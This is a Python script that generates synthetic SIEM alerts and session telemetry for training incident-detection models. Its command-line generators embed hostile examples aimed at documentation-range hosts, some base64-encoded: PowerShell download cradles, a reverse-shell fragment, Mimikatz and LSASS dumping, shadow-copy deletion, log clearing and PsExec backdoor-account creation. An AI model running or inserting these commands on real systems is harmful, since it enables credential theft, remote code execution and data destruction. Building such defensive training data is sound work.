#!/usr/bin/env python3
"""Generate the SYNTHETIC example data sets shipped in examples/data/.

NOTHING IN THESE FILES IS REAL. No event was taken from a real Splunk, SIEM,
network or person. Every value is drawn from hand-written distributions by
this script with a fixed seed, so running it again reproduces the files byte
for byte (plain Python 3 standard library only, no numpy):

    python3 examples/data/make_alerts.py            # writes next to this file
    python3 examples/data/make_alerts.py --out DIR  # writes into DIR

Names, hosts and domains are invented (``example.com``, ``corp.example.com``).
Every "public" IP address comes from the RFC 5737 documentation ranges
192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24, so no real address is
accused of anything. Careful: Python's ``ipaddress.ip_address(..).is_private``
calls those ranges private; riskscore (like Rust's ``Ipv4Addr::is_private``)
and the rule below call them public. "Private" here means 10/8, 172.16/12,
192.168/16 (and 100.64/10, which is never generated); 127/8 is loopback and
169.254/16 is link-local.

Files written
=============

alerts_train.csv      6,000 alerts + header, with the label ``is_incident``.
alerts_new.jsonl      1,000 further alerts, one JSON object per line, no label.
alerts_new_labels.csv hidden labels of alerts_new.jsonl: columns ``line``
                      (1-based line number in alerts_new.jsonl) and
                      ``is_incident``; one row for each of the 1,000 lines.
sessions_train.csv    4,000 login sessions (numeric telemetry) for the
                      unsupervised isolation-forest example, with ``is_anomaly``.

How the alerts are made
=======================

7,000 alerts are drawn independently; a seeded random 1,000 of them become
alerts_new.jsonl and the other 6,000 alerts_train.csv, each file sorted by
``_time``. Both therefore cover the same 14 days, 2024-11-01T00:00:00Z (a
Friday) to 2024-11-15T00:00:00Z, and follow the same distribution, so an
evaluation on the new file measures the model, not drift. All clock readings
below are UTC.

For each alert:

1. A ``signature`` is picked from a catalogue of 31 alert names (see
   SIGNATURES) with fixed frequency weights. The signature fixes ``source``,
   ``sourcetype``, the kind of ``host``, the ``mitre_technique`` values and the
   plausible ports, processes and command lines.
2. A hidden "attack-like" flag is drawn with a per-signature probability
   (e.g. 5% for Nmap scans, 70% for Mimikatz). It is NOT written anywhere and
   does NOT decide the label; it only makes the tell-tale features appear
   together the way they do in real intrusions: attack-like alerts are more
   often off-hours, from public addresses, one severity step higher, with
   large ``bytes_out``, encoded command lines and many failed logins.
   Benign alerts of admin accounts also come mostly in evenings, nights and
   weekends (maintenance windows); other benign alerts cluster in working
   hours.
3. The fields are drawn from those distributions (details in the code).

Alert fields (CSV columns, in this order, and JSON keys)
--------------------------------------------------------

_time            epoch seconds with milliseconds, e.g. "1730822521.417".
                 Alerts cluster in working hours (08-18 UTC Mon-Fri);
                 attack-like alerts are spread round the clock.
host             reporting host: endpoint (WS-/LT-/SRV-...), domain
                 controller, IDS sensor, firewall or the Okta tenant.
source           input, "ids:suricata", "edr:crowdstrike", "auth:okta",
                 "wineventlog:security" or "fw:paloalto".
sourcetype       Splunk sourcetype matching the source ("suricata",
                 "crowdstrike:events:sensor", "OktaIM2:log",
                 "XmlWinEventLog:Security", "pan:threat").
src_ip           originating address: private 10.x / 192.168.x / 172.16-31.x,
                 public (documentation ranges), and a few 127.0.0.1 and
                 169.254.x.x.
dest_ip          target address.
dest_port        target port ("0" when not applicable).
user             account name ("unknown" for network-only alerts; Okta users
                 as user@example.com).
signature        alert name, 31 distinct values.
severity         low / medium / high / critical.
bytes_out        bytes sent by the source side, heavy-tailed (log-normal
                 around 20 kB plus a tail of 10 MB - 3 GB transfers).
bytes_in         bytes received, heavy-tailed; not used by the label rule.
failed_logins    failed logins around the alert, 0..50.
process_name     process image for endpoint (EDR / Windows) alerts; empty
                 for network and Okta alerts.
command_line     process command line; some are long PowerShell commands with
                 a base64 ``-EncodedCommand`` payload (from attackers, but also
                 from legitimate management tools such as Intune). Contains
                 commas, double quotes and backslashes. Empty where
                 process_name is empty.
mitre_technique  ATT&CK technique id(s). Some alerts carry two: a Splunk
                 multivalue field, written in CSV as one quoted cell with the
                 two values separated by a newline ("T1059.001\\nT1027") and in
                 JSON as a list of strings (["T1059.001", "T1027"]).
is_admin         "true" / "false": the account is privileged.
is_incident      (CSV only) the label, 1 = confirmed incident, 0 = not.

The label rule
--------------

The label depends only on the written fields, through this rule, then noise:

    high_risk   = severity in {high, critical} and src_ip is public
    indicators  = number of these that hold (0..4):
                    off_hours : (hour < 07 or hour >= 19 UTC, or Sat/Sun UTC)
                                and is_admin is not "true" (admins work in
                                maintenance windows)
                    big_out   : bytes_out >= 10,000,000
                    encoded   : command_line contains a run of >= 80
                                characters from [A-Za-z0-9+/=] (a base64 blob)
                    brute     : failed_logins >= 10
    P(incident) = P_HIGH_RISK[min(indicators, 3)] = 0.02, 0.55, 0.80, 0.95
                      if high_risk,
                = 0.20 if severity in {high, critical}, src_ip not public
                      and indicators >= 2 (internal compromise),
                = 0.002 otherwise;
    the label is drawn from that probability, then label noise: an incident
    is recorded as 0 with probability 0.10 (missed by the analyst) and a
    non-incident as 1 with probability 0.01 (wrongly escalated), so about
    1.7% of all labels are flipped.

About 8% of alerts end up labelled 1.

So the label is learnable but noisy: the interactions (severity AND public
source AND an indicator; off-hours only for non-admins) suit trees better than
a linear model, off-hours is not monotone in the hour, the encoded-command
indicator is only visible to a model through the command line's length, and
the random draw and noise cap the achievable ROC AUC near 0.9. (Checked with
scikit-learn on simple features: a random forest reaches a ROC AUC of about
0.88-0.91, a logistic regression about 0.87-0.90.)

The label of an alert of alerts_new.jsonl is listed under its line number in
alerts_new_labels.csv, including the three damaged lines below (they keep the
label of the alert they were made from; an evaluation should skip whatever the
scorer rejects).

alerts_new.jsonl format and its deliberately bad lines
------------------------------------------------------

One flat JSON object per line (a Splunk REST export wraps each as
{"result": {...}}; these are the bare results), keys in the field order above,
without ``is_incident``. As in a Splunk export every value is a string, except
that a two-valued ``mitre_technique`` is a list of strings, and fields without
a value (``process_name``, ``command_line`` of non-endpoint alerts) are
omitted rather than written as "" (the CSV has empty cells instead).

Three lines are damaged on purpose to exercise error handling (1-based line
numbers):

    line  10   not valid JSON: the line is cut after 16 characters,
               '{"_time": "17304'.
    line 500   valid JSON, but bytes_out is "NaN" and src_ip is "not-an-ip".
    line 999   valid JSON, but only _time, source and signature are present.

How the sessions are made
=========================

sessions_train.csv: 4,000 login sessions over the same 14 days, sorted by
``_time``, columns ``_time, src_ip, duration_s, bytes_out, bytes_in,
failed_logins, distinct_hosts, is_anomaly``. 3,920 normal sessions: working
hours, duration log-normal around 30 min, bytes_out around 2 MB, bytes_in
around 20 MB, 0-3 failed logins, 1-8 distinct hosts, src mostly private.
Exactly 80 (2%) injected anomalies, ``is_anomaly`` = 1, 20 of each kind, all
at odd hours (00:00-04:59 UTC): exfiltration (bytes_out 2-20 GB), brute force
(20-50 failed logins in a 5-60 s session from a public address), lateral
movement (40-150 distinct hosts) and marathon sessions (15-24 h with 5-50 GB
in). ``is_anomaly`` is for evaluation only; the isolation forest does not
need it.
"""

from __future__ import annotations

import argparse
import base64
import csv
import json
import math
import os
import random
import re

SEED = 20241101
START = 1730419200  # 2024-11-01T00:00:00Z, a Friday
DAYS = 14
N_TRAIN = 6000
N_NEW = 1000
N_SESSIONS = 4000
N_SESSION_ANOMALIES = 80

# Label rule (documented in the module docstring; keep the two in step).
P_HIGH_RISK = (0.02, 0.55, 0.80, 0.95)  # by number of indicators, capped at 3
P_INTERNAL = 0.20
P_BASE = 0.002
P_MISSED = 0.10  # label noise: an incident closed as benign
P_FALSE_ALARM = 0.01  # label noise: a benign alert escalated as an incident
BIG_OUT = 10_000_000
BRUTE = 10
ENCODED_RE = re.compile(r"[A-Za-z0-9+/=]{80,}")

# Damaged lines of alerts_new.jsonl (1-based).
BAD_TRUNCATED = 10
BAD_VALUES = 500
BAD_SPARSE = 999

FIELDS = [
    "_time", "host", "source", "sourcetype", "src_ip", "dest_ip", "dest_port",
    "user", "signature", "severity", "bytes_out", "bytes_in", "failed_logins",
    "process_name", "command_line", "mitre_technique", "is_admin",
]
SEVERITIES = ["low", "medium", "high", "critical"]

SOURCES = {
    "ids": ("ids:suricata", "suricata"),
    "edr": ("edr:crowdstrike", "crowdstrike:events:sensor"),
    "auth": ("auth:okta", "OktaIM2:log"),
    "win": ("wineventlog:security", "XmlWinEventLog:Security"),
    "fw": ("fw:paloalto", "pan:threat"),
}

# name, kind, techniques, frequency weight, P(attack-like),
# severity weights (low, medium, high, critical) before the attack-like bump,
# P(public src) when benign / attack-like, dest ports, role
SIGNATURES = [
    # Network IDS
    ("ET SCAN Nmap Scripting Engine User-Agent Detected", "ids", ["T1046"], 8, 0.05,
     (.5, .4, .1, 0), .30, .90, [80, 443, 8080], "inbound"),
    ("ET SCAN Potential SSH Scan", "ids", ["T1046", "T1021.004"], 6, 0.06,
     (.4, .45, .15, 0), .60, .95, [22], "inbound"),
    ("ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "ids", ["T1190"], 3, 0.25,
     (0, .3, .5, .2), .90, .98, [443, 8080, 8443], "inbound"),
    ("ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "ids", ["T1190"], 4, 0.12,
     (.1, .5, .35, .05), .85, .97, [80, 443], "inbound"),
    ("ET MALWARE Cobalt Strike Beacon Observed", "ids", ["T1071.001", "T1573.002"], 1.2, 0.60,
     (0, .1, .5, .4), .50, .90, [443, 80, 8080], "outbound"),
    ("ET DNS Query to a *.top domain - Likely Hostile", "ids", ["T1071.004"], 4, 0.08,
     (.5, .4, .1, 0), .10, .60, [53], "dns"),
    ("ET INFO Observed DNS Query to Dynamic DNS Service", "ids", ["T1568"], 5, 0.05,
     (.7, .25, .05, 0), .10, .50, [53], "dns"),
    ("ET POLICY Self-Signed Certificate in TLS Handshake", "ids", ["T1573"], 5, 0.04,
     (.7, .3, 0, 0), .50, .80, [443, 8443], "outbound"),
    ("ET POLICY Large Outbound Transfer to Cloud Storage", "ids", ["T1567.002"], 3, 0.15,
     (.3, .5, .2, 0), .30, .85, [443], "exfil"),
    ("ET HUNTING Suspicious User-Agent (python-requests)", "ids", ["T1071.001"], 4, 0.05,
     (.6, .35, .05, 0), .60, .90, [80, 443], "inbound"),
    # Endpoint (EDR)
    ("Suspicious PowerShell EncodedCommand", "edr", ["T1059.001", "T1027"], 5, 0.30,
     (.1, .4, .4, .1), .15, .80, [443, 80], "powershell"),
    ("Credential Dumping via LSASS Memory Access", "edr", ["T1003.001"], 1.5, 0.50,
     (0, .1, .5, .4), .10, .70, [0], "lsass"),
    ("Mimikatz Command Line Detected", "edr", ["T1003.001", "T1558.003"], 0.7, 0.70,
     (0, 0, .4, .6), .10, .75, [0], "mimikatz"),
    ("Suspicious Scheduled Task Created", "edr", ["T1053.005"], 4, 0.12,
     (.4, .45, .15, 0), .10, .70, [0], "schtasks"),
    ("Office Application Spawned Command Shell", "edr", ["T1204.002", "T1059.003"], 2.5, 0.25,
     (.1, .4, .4, .1), .15, .80, [443], "office"),
    ("Ransomware-like File Encryption Behaviour", "edr", ["T1486"], 0.5, 0.60,
     (0, 0, .3, .7), .10, .60, [445], "ransom"),
    ("Certutil Used to Download File", "edr", ["T1105", "T1140"], 2, 0.25,
     (.2, .5, .3, 0), .20, .85, [80, 443], "certutil"),
    ("Rundll32 Executing JavaScript", "edr", ["T1218.011"], 1.5, 0.30,
     (.1, .4, .4, .1), .15, .80, [80, 443], "rundll32"),
    ("Shadow Copies Deleted via vssadmin", "edr", ["T1490"], 0.8, 0.50,
     (0, .2, .5, .3), .10, .65, [0], "vssadmin"),
    ("Unsigned Binary Executed from Temp Directory", "edr", ["T1204.002"], 6, 0.06,
     (.5, .4, .1, 0), .10, .70, [0, 443], "tempexe"),
    ("PsExec Service Lateral Movement", "edr", ["T1021.002", "T1569.002"], 2, 0.20,
     (.2, .4, .3, .1), .10, .70, [445], "psexec"),
    # Identity (Okta)
    ("Brute force attempt", "auth", ["T1110.001"], 6, 0.15,
     (.3, .4, .25, .05), .70, .95, [443], "brute"),
    ("Password spraying detected", "auth", ["T1110.003"], 2, 0.30,
     (.1, .4, .4, .1), .80, .98, [443], "brute"),
    ("Impossible travel", "auth", ["T1078"], 5, 0.12,
     (.2, .5, .25, .05), .95, .99, [443], "login"),
    ("MFA push fatigue - repeated denials", "auth", ["T1621"], 2, 0.30,
     (.1, .4, .4, .1), .90, .99, [443], "login"),
    ("Sign-in from anonymizing proxy or TOR exit node", "auth", ["T1090.003", "T1078"], 2, 0.25,
     (.1, .5, .35, .05), 1.0, 1.0, [443], "login"),
    ("Admin role assigned to user", "auth", ["T1098.003"], 2, 0.10,
     (.4, .4, .2, 0), .60, .90, [443], "login"),
    # Windows security log
    ("Multiple Account Lockouts", "win", ["T1110"], 4, 0.08,
     (.4, .5, .1, 0), .10, .50, [88, 445], "lockout"),
    ("Security Event Log Cleared", "win", ["T1070.001"], 1, 0.40,
     (0, .2, .5, .3), .10, .60, [0], "logclear"),
    ("New Service Installed on Host", "win", ["T1543.003"], 4, 0.08,
     (.5, .4, .1, 0), .05, .50, [0, 445], "service"),
    # Firewall
    ("Outbound Connection to Known C2 Address", "fw", ["T1071"], 1.5, 0.40,
     (0, .2, .5, .3), .40, .85, [443, 8443, 4444, 53], "outbound"),
]

FIRST = ["james", "mary", "robert", "patricia", "john", "jennifer", "michael",
         "linda", "david", "elena", "wei", "aisha", "carlos", "priya", "tomas",
         "fatima", "kenji", "olga", "samuel", "ines", "noah", "grace", "omar",
         "lena", "arjun", "chloe", "mateo", "yuki", "ben", "sara"]
LAST = ["smith", "johnson", "garcia", "kumar", "chen", "okafor", "novak",
        "silva", "muller", "tanaka", "rossi", "haddad", "nguyen", "kowalski",
        "dubois", "larsen", "moreau", "ibrahim", "fischer", "costa"]
DEPTS = ["FIN", "HR", "ENG", "MKT", "OPS", "SALES", "LEGAL", "IT"]
SERVICE_ACCOUNTS = ["svc_backup", "svc_sccm", "svc_sql", "svc_jenkins", "administrator"]


def build_people(rng):
    users = []
    seen = set()
    while len(users) < 60:
        u = rng.choice(FIRST)[0] + rng.choice(LAST)
        if u not in seen:
            seen.add(u)
            users.append(u)
    admins = ["adm_" + u for u in users[:8]] + SERVICE_ACCOUNTS
    hosts = []
    for i in range(40):
        kind = "WS" if i < 24 else "LT"
        hosts.append(f"{kind}-{rng.choice(DEPTS)}-{rng.randint(100, 9999):04d}")
    servers = ["SRV-APP-01", "SRV-APP-04", "SRV-DB-02", "SRV-FILE-01",
               "SRV-WEB-03", "SRV-JUMP-01", "SRV-BUILD-02"]
    return users, admins, hosts, servers


def public_ip(rng):
    net = rng.choice(["192.0.2", "198.51.100", "203.0.113"])
    return f"{net}.{rng.randint(1, 254)}"


def private_ip(rng, allow_odd=False):
    r = rng.random()
    if allow_odd and r < 0.03:
        return "127.0.0.1"
    if allow_odd and r < 0.05:
        return f"169.254.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    if r < 0.75:
        return f"10.{rng.choice([0, 10, 20, 30, 40])}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    if r < 0.93:
        return f"192.168.{rng.randint(0, 20)}.{rng.randint(1, 254)}"
    return f"172.{rng.randint(16, 31)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def is_public(ip):
    """Public in riskscore's sense: not private, loopback or link-local."""
    try:
        o = [int(x) for x in ip.split(".")]
    except ValueError:
        return False
    if len(o) != 4:
        return False
    return not (o[0] == 10 or o[0] == 127 or (o[0] == 172 and 16 <= o[1] <= 31)
                or (o[0] == 192 and o[1] == 168) or (o[0] == 169 and o[1] == 254)
                or (o[0] == 100 and 64 <= o[1] <= 127))


def weighted(rng, items, weights):
    return rng.choices(items, weights=weights, k=1)[0]


def draw_time(rng, attack_like, admin):
    """Epoch seconds (float, ms resolution) within the 14 days."""
    day_w = [0.35 if (d + 4) % 7 >= 5 else 1.0 for d in range(DAYS)]  # day 0 = Friday
    if attack_like:
        day_w = [1.0] * DAYS
        hour_w = [1.6 if (h < 7 or h >= 19) else 1.0 for h in range(24)]
    elif admin:  # maintenance windows: evenings, nights and weekends
        day_w = [1.0] * DAYS
        hour_w = [3.0 if (h < 5 or h >= 20) else 1.0 for h in range(24)]
    else:
        hour_w = [4.0 if 8 <= h < 18 else 2.0 if h in (7, 18) else 1.5 for h in range(24)]
    day = weighted(rng, range(DAYS), day_w)
    hour = weighted(rng, range(24), hour_w)
    return START + day * 86400 + hour * 3600 + rng.randint(0, 3599) + rng.randint(0, 999) / 1000


def off_hours(t):
    secs = int(t) - START
    weekday = (secs // 86400 + 4) % 7  # 0 = Monday; 2024-11-01 is a Friday
    hour = (secs % 86400) // 3600
    return hour < 7 or hour >= 19 or weekday >= 5


def loguniform(rng, lo, hi):
    return int(math.exp(rng.uniform(math.log(lo), math.log(hi))))


def ps_payload(rng, malicious):
    ip = public_ip(rng)
    if malicious:
        script = rng.choice([
            "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
            f"IEX $c.DownloadString('http://{ip}:8080/{rng.randint(1000, 9999)}.ps1')",
            f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String((iwr http://{ip}/c).Content));"
            "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
            f"$t=New-Object Net.Sockets.TCPClient('{ip}',443);$st=$t.GetStream();"
            "[byte[]]$b=0..65535|%{0};while(($i=$st.Read($b,0,$b.Length)) -ne 0){;$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i)}",
        ])
    else:
        script = rng.choice([
            "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption,Version,LastBootUpTime | ConvertTo-Json -Compress",
            "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' | Select-Object DisplayName,DisplayVersion | ConvertTo-Csv",
            "$p=Get-BitLockerVolume -MountPoint 'C:';if($p.ProtectionStatus -ne 'On'){exit 1};Write-Output 'compliant'",
        ])
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def endpoint_process(rng, role, attack_like, user, host, encoded):
    """(process_name, command_line) for EDR / Windows alerts."""
    tmp = f"C:\\Users\\{user}\\AppData\\Local\\Temp"
    ip = public_ip(rng)
    if encoded:
        b64 = ps_payload(rng, attack_like)
        form = rng.randrange(4)
        if role == "service":
            return "services.exe", f"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand {b64}"
        if role == "schtasks":
            return "schtasks.exe", (f'schtasks.exe /Create /TN "MicrosoftEdgeUpdateTaskCore{rng.randint(1, 9)}" '
                                    f'/TR "powershell.exe -w hidden -enc {b64}" /SC MINUTE /MO 15 /F')
        if role == "office":
            return "cmd.exe", f"cmd.exe /c powershell -e {b64}"
        if form == 0:
            return "powershell.exe", f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {b64}"
        if form == 1:
            return "powershell.exe", f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -EncodedCommand {b64}'
        if form == 2:
            return "powershell.exe", f'powershell.exe -c "IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(\'{b64}\')))"'
        return "cmd.exe", f"cmd.exe /c powershell -e {b64}"
    if role == "powershell":
        if attack_like:
            return "powershell.exe", (f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
                                      f".DownloadString('http://{ip}/a')\"")
        return "powershell.exe", rng.choice([
            f'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{rng.randint(10**7, 10**8)}-{rng.randint(1000, 9999)}.ps1"',
            f"powershell.exe -NoLogo -Command \"Get-ChildItem -Path '{tmp}' | Remove-Item -Force -Recurse\"",
            "powershell.exe -Command \"Get-Service -Name 'Spooler', 'wuauserv' | Restart-Service\"",
        ])
    if role == "lsass":
        if attack_like:
            return rng.choice([
                ("procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp"),
                ("rundll32.exe", f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {rng.randint(500, 900)} C:\\ProgramData\\out.bin full"),
            ])
        return "MsMpEng.exe", '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"'
    if role == "mimikatz":
        name = rng.choice(["mimikatz.exe", "m64.exe", "svchost32.exe"])
        return name, f'{name} "privilege::debug" "sekurlsa::logonpasswords" "kerberos::list /export" exit'
    if role == "schtasks":
        if attack_like:
            return "schtasks.exe", (f'schtasks.exe /Create /TN "OneDrive Sync {rng.randint(1, 99)}" /TR '
                                    f'"{tmp}\\upd.exe" /SC ONLOGON /RL HIGHEST /F')
        return "schtasks.exe", ('schtasks.exe /Create /TN "GoogleUpdateTaskMachineUA" /TR '
                                '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler" /SC HOURLY /F')
    if role == "office":
        if attack_like:
            return "cmd.exe", f"cmd.exe /c \"mshta http://{ip}/inv.hta\""
        return "cmd.exe", (f'cmd.exe /c copy "\\\\SRV-FILE-01.corp.example.com\\finance\\Q4 forecast, final.xlsx" '
                           f'"C:\\Users\\{user}\\Documents\\"')
    if role == "ransom":
        if attack_like:
            return "svchost.exe", ('"C:\\Users\\Public\\svchost.exe" --encrypt --paths "C:\\,\\\\SRV-FILE-01\\share" '
                                   '--note README_RESTORE.txt --threads 8')
        return "VeeamAgent.exe", '"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe" -job "Nightly, full" -encrypt'
    if role == "certutil":
        if attack_like:
            return "certutil.exe", f"certutil.exe -urlcache -split -f http://{ip}/payload.b64 C:\\Users\\Public\\p.b64"
        return "certutil.exe", f'certutil.exe -hashfile "C:\\Users\\{user}\\Downloads\\setup.exe" SHA256'
    if role == "rundll32":
        if attack_like:
            return "rundll32.exe", (f'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";'
                                    f'document.write();GetObject("script:http://{ip}/x.sct")')
        return "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl,,0"
    if role == "vssadmin":
        if attack_like:
            return "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"
        return "vssadmin.exe", "vssadmin.exe delete shadows /for=D: /oldest"
    if role == "tempexe":
        if attack_like:
            return "invoice_2024-11.exe", f'"{tmp}\\7zS4A1.tmp\\invoice_2024-11.exe"'
        return rng.choice([
            ("setup.exe", f'"{tmp}\\{rng.randint(100000, 999999)}\\setup.exe" /S /norestart'),
            ("java.exe", '"C:\\Program Files\\Java\\jdk-17\\bin\\java.exe" -Xmx2g -cp '
                         '"lib\\reporting-core-4.2.jar;lib\\commons-lang3-3.14.0.jar;lib\\jackson-databind-2.17.1.jar;'
                         'lib\\postgresql-42.7.3.jar;lib\\slf4j-api-2.0.13.jar" com.example.reporting.Main '
                         '--config "C:\\apps\\reporting\\conf\\app.yaml" --verbose'),
        ])
    if role == "psexec":
        if attack_like:
            return "PsExec.exe", (f"PsExec.exe \\\\{host} -u CORP\\administrator -p ******** -s cmd.exe /c "
                                  f'"net user support_tmp P@ssw0rd, /add && net localgroup administrators support_tmp /add"')
        return "PsExec.exe", f'PsExec.exe \\\\SRV-APP-04 -s -accepteula cmd /c "ipconfig /flushdns"'
    if role == "lockout":
        return "lsass.exe", "C:\\Windows\\system32\\lsass.exe"
    if role == "logclear":
        return "wevtutil.exe", rng.choice(["wevtutil.exe cl Security", "wevtutil.exe cl System"])
    if role == "service":
        if attack_like:
            return "services.exe", f"C:\\Windows\\{rng.choice(['a', 'b', 'x'])}{rng.randint(1000, 9999)}.exe"
        return "services.exe", rng.choice([
            '"C:\\Program Files\\CrowdStrike\\CSFalconService.exe"',
            '"C:\\Program Files\\Splunk\\bin\\splunkd.exe" service',
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
        ])
    raise ValueError(role)


def make_alert(rng, people):
    users, admins, hosts, servers = people
    weights = [s[3] for s in SIGNATURES]
    (sig, kind, techniques, _w, p_attack, sev_w, p_pub_benign, p_pub_attack,
     ports, role) = weighted(rng, SIGNATURES, weights)
    attack = rng.random() < p_attack
    source, sourcetype = SOURCES[kind]

    sev = weighted(rng, range(4), sev_w)
    if attack and rng.random() < 0.6:
        sev = min(sev + 1, 3)
    severity = SEVERITIES[sev]

    # who
    admin = rng.random() < (0.30 if attack else 0.12)
    user = rng.choice(admins) if admin else rng.choice(users)
    if kind in ("ids", "fw"):
        user, admin = "unknown", False
    elif kind == "auth":
        user = f"{user}@example.com"

    t = draw_time(rng, attack, admin)

    # where
    pub = rng.random() < (p_pub_attack if attack else p_pub_benign)
    src_ip = public_ip(rng) if pub else private_ip(rng, allow_odd=kind in ("edr", "win", "ids"))
    port = rng.choice(ports)
    if kind == "auth":
        host, dest_ip = "example.okta.com", public_ip(rng)
    elif kind == "ids":
        host = rng.choice(["ids-sensor-01", "ids-sensor-02", "ids-sensor-03"])
        if role == "dns":
            dest_ip = rng.choice(["10.0.0.53", "10.0.0.54"])
        elif role in ("outbound", "exfil"):
            dest_ip = public_ip(rng)
        else:
            dest_ip = f"10.20.{rng.randint(0, 9)}.{rng.randint(1, 254)}"
    elif kind == "fw":
        host = rng.choice(["pa-edge-fw-01", "pa-edge-fw-02"])
        dest_ip = public_ip(rng)
    elif kind == "win":
        host = rng.choice(["DC01.corp.example.com", "DC02.corp.example.com"] + servers)
        dest_ip = rng.choice(["10.0.0.10", "10.0.0.11"])
    else:  # edr
        host = rng.choice(hosts + servers)
        dest_ip = public_ip(rng) if port in (80, 443) and rng.random() < 0.7 else private_ip(rng)

    # how much
    exfil_like = role in ("exfil", "outbound", "ransom")
    p_big = (0.70 if exfil_like else 0.25) if attack else (0.35 if role == "exfil" else 0.10)
    if rng.random() < p_big:
        bytes_out = loguniform(rng, 10_000_000, 3_000_000_000)
    else:
        bytes_out = int(rng.lognormvariate(math.log(20_000), 1.6))
    bytes_in = int(rng.lognormvariate(math.log(60_000), 1.8))
    if rng.random() < 0.03:
        bytes_in = loguniform(rng, 10_000_000, 2_000_000_000)

    if role in ("brute", "lockout"):
        failed = rng.randint(10, 50) if attack else min(50, 3 + int(rng.expovariate(1 / 3)))
    elif kind == "auth":
        failed = rng.randint(0, 8) if attack else weighted(rng, [0, 1, 2], [.8, .15, .05])
    else:
        failed = 0 if rng.random() < 0.9 else rng.randint(1, 3)

    # what ran
    process_name = command_line = ""
    if kind in ("edr", "win"):
        if role == "powershell":
            p_enc = 0.90 if attack else 0.50
        elif role in ("lockout", "logclear", "mimikatz", "vssadmin", "ransom"):
            p_enc = 0.0
        else:
            p_enc = 0.30 if attack else 0.02
        encoded = rng.random() < p_enc
        process_name, command_line = endpoint_process(rng, role, attack, user.split("@")[0], host, encoded)

    mitre = list(techniques) if len(techniques) == 1 or rng.random() < 0.85 else techniques[:1]

    alert = {
        "_time": f"{t:.3f}",
        "host": host,
        "source": source,
        "sourcetype": sourcetype,
        "src_ip": src_ip,
        "dest_ip": dest_ip,
        "dest_port": str(port),
        "user": user,
        "signature": sig,
        "severity": severity,
        "bytes_out": str(bytes_out),
        "bytes_in": str(bytes_in),
        "failed_logins": str(failed),
        "process_name": process_name,
        "command_line": command_line,
        "mitre_technique": mitre,
        "is_admin": "true" if admin else "false",
    }
    alert["is_incident"] = label(rng, alert)
    return t, alert


def indicators(alert):
    return sum([
        off_hours(float(alert["_time"])) and alert["is_admin"] != "true",
        int(alert["bytes_out"]) >= BIG_OUT,
        bool(ENCODED_RE.search(alert["command_line"])),
        int(alert["failed_logins"]) >= BRUTE,
    ])


def label(rng, alert):
    high = alert["severity"] in ("high", "critical")
    k = indicators(alert)
    if high and is_public(alert["src_ip"]):
        p = P_HIGH_RISK[min(k, 3)]
    elif high and k >= 2:
        p = P_INTERNAL
    else:
        p = P_BASE
    y = int(rng.random() < p)
    if rng.random() < (P_MISSED if y else P_FALSE_ALARM):
        y = 1 - y
    return y


def csv_row(alert):
    row = {k: alert[k] for k in FIELDS}
    row["mitre_technique"] = "\n".join(alert["mitre_technique"])
    row["is_incident"] = str(alert["is_incident"])
    return row


def json_obj(alert):
    obj = {}
    for k in FIELDS:
        v = alert[k]
        if v == "":
            continue  # Splunk omits fields without a value
        if k == "mitre_technique":
            v = v if len(v) > 1 else v[0]
        obj[k] = v
    return obj


def make_session(rng, anomaly_kind):
    if anomaly_kind is None:
        day_w = [0.35 if (d + 4) % 7 >= 5 else 1.0 for d in range(DAYS)]
        hour_w = [4.0 if 8 <= h < 18 else 2.0 if h in (7, 18) else 0.3 for h in range(24)]
        day, hour = weighted(rng, range(DAYS), day_w), weighted(rng, range(24), hour_w)
        duration = min(36000.0, max(5.0, rng.lognormvariate(math.log(1800), 0.9)))
        scale = math.sqrt(duration / 1800)
        bytes_out = int(rng.lognormvariate(math.log(2_000_000), 1.0) * scale)
        bytes_in = int(rng.lognormvariate(math.log(20_000_000), 1.0) * scale)
        failed = weighted(rng, [0, 1, 2, 3], [.85, .10, .04, .01])
        hosts = min(8, 1 + int(rng.expovariate(1 / 1.2)))
        src = public_ip(rng) if rng.random() < 0.13 else private_ip(rng)
    else:
        day, hour = rng.randrange(DAYS), rng.randint(0, 4)
        duration = rng.uniform(600, 7200)
        bytes_out = int(rng.lognormvariate(math.log(2_000_000), 1.0))
        bytes_in = int(rng.lognormvariate(math.log(20_000_000), 1.0))
        failed = rng.randint(0, 3)
        hosts = rng.randint(1, 6)
        src = public_ip(rng) if rng.random() < 0.5 else private_ip(rng)
        if anomaly_kind == "exfil":
            bytes_out = loguniform(rng, 2_000_000_000, 20_000_000_000)
            duration = rng.uniform(7200, 21600)
        elif anomaly_kind == "brute":
            failed = rng.randint(20, 50)
            duration = rng.uniform(5, 60)
